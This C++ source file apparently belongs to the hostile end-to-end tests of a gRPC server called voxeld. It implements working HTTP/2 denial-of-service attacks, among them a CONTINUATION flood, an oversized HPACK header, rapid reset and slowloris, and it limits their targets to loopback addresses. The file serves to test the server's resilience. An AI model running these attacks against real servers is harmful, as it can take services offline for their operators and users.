#include "tests/e2e/hostile/attacks.h"

#include <arpa/inet.h>
#include <linux/tcp.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <utility>

#include "tests/e2e/hostile/http2_bytes.h"

namespace voxeld::e2e {
namespace {

using std::chrono::milliseconds;
using std::chrono::steady_clock;

constexpr size_t kFramePayload = 16384;
constexpr size_t kHugeField = 100'000'000;
constexpr milliseconds kDrip{100};
constexpr char kHealthPath[] = "/grpc.health.v1.Health/Check";
constexpr char kOwnPath[] = "/voxeld.v1.DisplayService/ListDisplays";
constexpr char kWatchPath[] = "/voxeld.v1.SceneService/WatchScene";
constexpr char kStreamPath[] = "/voxeld.v1.SceneService/Stream";
constexpr char kUpdatePath[] = "/voxeld.v1.SceneService/ApplyUpdate";

class Victim {
 public:
  Victim(const std::string& target, const std::string& source, steady_clock::time_point end)
      : begin_(steady_clock::now()), end_(end), socket_(BeginToConnect(target, source)) {
    pollfd poll_fd = {socket_, POLLOUT, 0};
    if (socket_ < 0 || poll(&poll_fd, 1, Left()) != 1) return;
    int error = 0;
    socklen_t length = sizeof(error);
    getsockopt(socket_, SOL_SOCKET, SO_ERROR, &error, &length);
    result_.connected = error == 0;
  }
  ~Victim() {
    if (socket_ >= 0) close(socket_);
  }
  Victim(const Victim&) = delete;
  Victim& operator=(const Victim&) = delete;

  bool connected() const { return result_.connected; }

  // Sends all of it; returns false if the connection ended or the time is over.
  bool Send(std::string_view bytes) {
    while (!bytes.empty()) {
      if (!Await(POLLOUT)) return false;
      const ssize_t n = send(socket_, bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
      if (n < 0 && errno != EAGAIN) {
        result_.cut = true;
        return false;
      }
      if (n > 0) bytes.remove_prefix(static_cast<size_t>(n));
    }
    return true;
  }

  // Reads until a frame of `type` begins; discards everything before it. Only for small amounts.
  bool AwaitFrame(FrameType type) {
    for (;;) {
      while (got_.size() >= 9) {
        const auto byte = [&](size_t i) {
          return static_cast<size_t>(static_cast<uint8_t>(got_[i]));
        };
        const size_t size = byte(0) << 16 | byte(1) << 8 | byte(2);
        if (byte(3) == static_cast<size_t>(type)) return true;
        if (got_.size() < 9 + size) break;
        got_.erase(0, 9 + size);
      }
      keep_ = true;
      if (!Await(POLLIN)) return false;
      keep_ = false;
    }
  }

  // Waits for the end, for at most `pause`, reading what arrives. Returns false if the end has
  // come.
  bool Idle(milliseconds pause) {
    const auto until = std::min(end_, steady_clock::now() + pause);
    while (steady_clock::now() < until) {
      const auto left =
          std::chrono::duration_cast<milliseconds>(until - steady_clock::now()) + milliseconds(1);
      pollfd poll_fd = {socket_, POLLIN, 0};
      if (poll(&poll_fd, 1, static_cast<int>(left.count())) == 1 && !Read()) return false;
    }
    return steady_clock::now() < end_;
  }

  AttackResult Result() {
    result_.seconds = std::chrono::duration<double>(steady_clock::now() - begin_).count();
    tcp_info info = {};
    socklen_t length = sizeof(info);
    if (socket_ >= 0 && getsockopt(socket_, IPPROTO_TCP, TCP_INFO, &info, &length) == 0) {
      result_.bytes_delivered = info.tcpi_bytes_acked;
    }
    return result_;
  }

  void SetPrepared() { result_.prepared = true; }

 private:
  int Left() const {
    const auto left = std::chrono::duration_cast<milliseconds>(end_ - steady_clock::now());
    return static_cast<int>(std::max<int64_t>(0, left.count()));
  }

  // Waits for one of `events`; reads what arrives in the meantime. Returns false if the connection
  // ended or the time is over.
  bool Await(short events) {
    for (;;) {
      pollfd poll_fd = {socket_, static_cast<short>(events | POLLIN), 0};
      if (poll(&poll_fd, 1, Left()) != 1) return false;
      if ((poll_fd.revents & (POLLIN | POLLERR | POLLHUP)) != 0 && !Read()) return false;
      if ((poll_fd.revents & events) != 0) return steady_clock::now() < end_;
    }
  }

  bool Read() {
    char buffer[16384];
    const ssize_t n = recv(socket_, buffer, sizeof(buffer), MSG_DONTWAIT);
    if (n > 0 && keep_) got_.append(buffer, static_cast<size_t>(n));
    if (n > 0 || (n < 0 && errno == EAGAIN)) return true;
    result_.cut = true;
    return false;
  }

  const steady_clock::time_point begin_, end_;
  const int socket_;
  std::string got_;
  bool keep_ = false;
  AttackResult result_;
};

// Each call has a stream of its own; 1 is the first that a client may use.
void HugeHeader(Victim& victim, uint32_t stream) {
  std::string begin = CallFields(kHealthPath);
  begin.push_back('\0');
  begin += HpackInteger(1, 7) + "x" + HpackInteger(kHugeField, 7);
  if (!victim.Send(Frame(FrameType::kHeaders, 0, stream, begin))) return;
  const std::string more =
      Frame(FrameType::kContinuation, 0, stream, std::string(kFramePayload, 'x'));
  for (size_t sent = 0; sent < kHugeField; sent += kFramePayload) {
    if (!victim.Send(more)) return;
  }
}

void VarintPadding(Victim& victim) {
  std::string begin = CallFields(kHealthPath);
  begin.push_back('\0');
  begin += HpackInteger(1, 7) + "x" + "\x7f";
  if (!victim.Send(Frame(FrameType::kHeaders, 0, 1, begin))) return;
  const std::string more =
      Frame(FrameType::kContinuation, 0, 1, std::string(kFramePayload, '\x80'));
  while (victim.Send(more)) {
  }
}

void ContinuationFlood(Victim& victim, uint32_t stream) {
  if (!victim.Send(Frame(FrameType::kHeaders, 0, stream, CallFields(kHealthPath)))) return;
  std::string fields;
  for (int i = 0; fields.size() + 16 < kFramePayload; ++i) {
    fields += Field("x" + std::to_string(i), "y");
  }
  const std::string more = Frame(FrameType::kContinuation, 0, stream, fields);
  while (victim.Send(more)) {
  }
}

// Makes calls one after another, each followed by a frame of `type` on its stream that ends it.
void Resets(Victim& victim, const char* path, uint32_t stream,
            FrameType type = FrameType::kResetStream,
            std::string_view payload = std::string_view("\0\0\0\x08", 4), uint8_t flags = 0) {
  const std::string fields = CallFields(path);
  for (;;) {
    std::string some;
    for (int i = 0; i < 16; ++i, stream += 2) {
      some += Frame(FrameType::kHeaders, kEndHeaders | flags, stream, fields);
      some += Frame(type, 0, stream, payload);
    }
    if (!victim.Send(some)) return;
  }
}

// A message's first byte says whether it is compressed: 0 or 1.
constexpr std::string_view kWrongMessage("\x09\0\0\0\0", 5);
constexpr std::string_view kNothing("\0\0\0\0", 4);

// Makes one call that is answered, if only with a refusal.
bool Call(Victim& victim, const char* path, std::string_view message) {
  const bool answered = victim.Send(Frame(FrameType::kHeaders, kEndHeaders, 1, CallFields(path)) +
                                    Frame(FrameType::kData, kEndStream, 1, GrpcMessage(message))) &&
                        victim.AwaitFrame(FrameType::kHeaders);
  if (answered) victim.SetPrepared();
  return answered;
}

// After a call of `first`: makes calls that a frame causes the server to reset.
void MadeResets(Victim& victim, const char* first, FrameType type, std::string_view payload,
                uint8_t flags = 0) {
  if (Call(victim, first, "")) Resets(victim, kStreamPath, 3, type, payload, flags);
}

void Drip(Victim& victim, std::string_view bytes) {
  for (const char byte : bytes) {
    if (!victim.Send({&byte, 1}) || !victim.Idle(kDrip)) return;
  }
}

void LargeFirstCall(Victim& victim) {
  // An unknown field of 1 MiB: the message can be parsed.
  const size_t size = 1u << 20;
  std::string message = "\xfa\x01";
  for (size_t left = size; left > 0; left >>= 7) {
    message.push_back(static_cast<char>((left & 127) | (left >= 128 ? 128 : 0)));
  }
  message.append(size, 'x');
  if (!victim.Send(Frame(FrameType::kHeaders, kEndHeaders, 1, CallFields(kUpdatePath)))) return;
  const std::string data = GrpcMessage(message);
  for (size_t at = 0; at < data.size(); at += kFramePayload) {
    if (!victim.Send(
            Frame(FrameType::kData, 0, 1, std::string_view(data).substr(at, kFramePayload)))) {
      return;
    }
  }
}

constexpr std::pair<Attack, const char*> kNames[] = {
    {Attack::kHugeHeader, "huge_header"},
    {Attack::kVarintPadding, "varint_padding"},
    {Attack::kContinuationFlood, "continuation_flood"},
    {Attack::kRapidReset, "rapid_reset"},
    {Attack::kLargeFirstCall, "large_first_call"},
    {Attack::kSlowLoris, "slow_loris"},
    {Attack::kSlowCall, "slow_call"},
    {Attack::kSlowMessage, "slow_message"},
    {Attack::kHalfOpen, "half_open"},
    {Attack::kCheckedHugeHeader, "checked_huge_header"},
    {Attack::kCheckedContinuation, "checked_continuation"},
    {Attack::kCheckedReset, "checked_reset"},
    {Attack::kCheckedMadeReset, "checked_made_reset"},
    {Attack::kGarbageContinuation, "garbage_continuation"},
    {Attack::kTrustedHugeHeader, "trusted_huge_header"},
    {Attack::kTrustedContinuation, "trusted_continuation"},
    {Attack::kTrustedReset, "trusted_reset"},
    {Attack::kTrustedUnsentReset, "trusted_unsent_reset"},
    {Attack::kTrustedMadeReset, "trusted_made_reset"},
    {Attack::kTrustedMadeResetByWindow, "trusted_made_reset_by_window"},
    {Attack::kTrustedMadeResetByEnd, "trusted_made_reset_by_end"},
};

void Carry(Attack attack, Victim& victim) {
  const std::string call = Frame(FrameType::kHeaders, kEndHeaders, 1, CallFields(kUpdatePath));
  switch (attack) {
    case Attack::kHugeHeader:
      return HugeHeader(victim, 1);
    case Attack::kVarintPadding:
      return VarintPadding(victim);
    case Attack::kContinuationFlood:
      return ContinuationFlood(victim, 1);
    case Attack::kRapidReset:
      return Resets(victim, kStreamPath, 1);
    case Attack::kLargeFirstCall:
      return LargeFirstCall(victim);
    case Attack::kSlowLoris:
      return Drip(victim, kPreface);
    case Attack::kSlowCall:
      return Drip(victim, call);
    case Attack::kSlowMessage:
      if (!victim.Send(call)) return;
      return Drip(victim, Frame(FrameType::kData, 0, 1, GrpcMessage(std::string(1000, '\0'))));
    case Attack::kHalfOpen:
      return;
    case Attack::kCheckedHugeHeader:
      if (Call(victim, kHealthPath, "")) HugeHeader(victim, 3);
      return;
    case Attack::kCheckedContinuation:
      if (Call(victim, kHealthPath, "")) ContinuationFlood(victim, 3);
      return;
    case Attack::kCheckedReset:
      if (Call(victim, kHealthPath, "")) Resets(victim, kStreamPath, 3);
      return;
    case Attack::kCheckedMadeReset:
      return MadeResets(victim, kHealthPath, FrameType::kData, kWrongMessage);
    case Attack::kGarbageContinuation:
      if (Call(victim, kWatchPath, "\xff\xff\xff")) ContinuationFlood(victim, 3);
      return;
    case Attack::kTrustedHugeHeader:
      if (Call(victim, kOwnPath, "")) HugeHeader(victim, 3);
      return;
    case Attack::kTrustedContinuation:
      if (Call(victim, kOwnPath, "")) ContinuationFlood(victim, 3);
      return;
    case Attack::kTrustedReset:
      if (Call(victim, kOwnPath, "")) Resets(victim, kStreamPath, 3);
      return;
    case Attack::kTrustedUnsentReset:
      if (Call(victim, kOwnPath, "")) Resets(victim, kHealthPath, 3);
      return;
    case Attack::kTrustedMadeReset:
      return MadeResets(victim, kOwnPath, FrameType::kData, kWrongMessage);
    case Attack::kTrustedMadeResetByWindow:
      return MadeResets(victim, kOwnPath, FrameType::kWindowUpdate, kNothing);
    case Attack::kTrustedMadeResetByEnd:
      return MadeResets(victim, kOwnPath, FrameType::kData, "x", kEndStream);
  }
}

in_addr_t Loopback(const std::string& number) {
  in_addr out = {};
  const bool parsed = inet_pton(AF_INET, number.c_str(), &out) == 1;
  return parsed && ntohl(out.s_addr) >> 24 == IN_LOOPBACKNET ? out.s_addr : INADDR_NONE;
}

}  // namespace

std::vector<Attack> AllAttacks() {
  std::vector<Attack> out;
  for (const auto& [attack, name] : kNames) out.push_back(attack);
  return out;
}

const char* AttackName(Attack attack) {
  for (const auto& [known, name] : kNames) {
    if (known == attack) return name;
  }
  return "";
}

bool NeedsTrust(Attack attack) { return attack >= Attack::kTrustedHugeHeader; }

AttackResult RunAttack(Attack attack, const std::string& target, const std::string& source,
                       steady_clock::time_point end) {
  Victim victim(target, source, end);
  if (!victim.connected()) return victim.Result();
  const bool silent = attack == Attack::kHalfOpen || attack == Attack::kSlowLoris;
  if (!silent && !victim.Send(Greeting())) return victim.Result();
  Carry(attack, victim);
  while (victim.Idle(std::chrono::hours(1))) {  // whatever the result
  }
  return victim.Result();
}

int BeginToConnect(const std::string& target, const std::string& source) {
  const size_t colon = target.rfind(':');
  sockaddr_in to = {}, from = {};
  to.sin_family = from.sin_family = AF_INET;
  to.sin_port = htons(static_cast<uint16_t>(std::atoi(target.c_str() + colon + 1)));
  to.sin_addr.s_addr = Loopback(target.substr(0, colon));
  from.sin_addr.s_addr = Loopback(source);
  // No other machine is attacked.
  if (to.sin_addr.s_addr == INADDR_NONE || from.sin_addr.s_addr == INADDR_NONE) return -1;
  const int made = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (made < 0) return -1;
  const int on = 1;
  setsockopt(made, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof(on));
  if (bind(made, reinterpret_cast<sockaddr*>(&from), sizeof(from)) != 0 ||
      (connect(made, reinterpret_cast<sockaddr*>(&to), sizeof(to)) != 0 && errno != EINPROGRESS)) {
    close(made);
    return -1;
  }
  return made;
}

}  // namespace voxeld::e2e
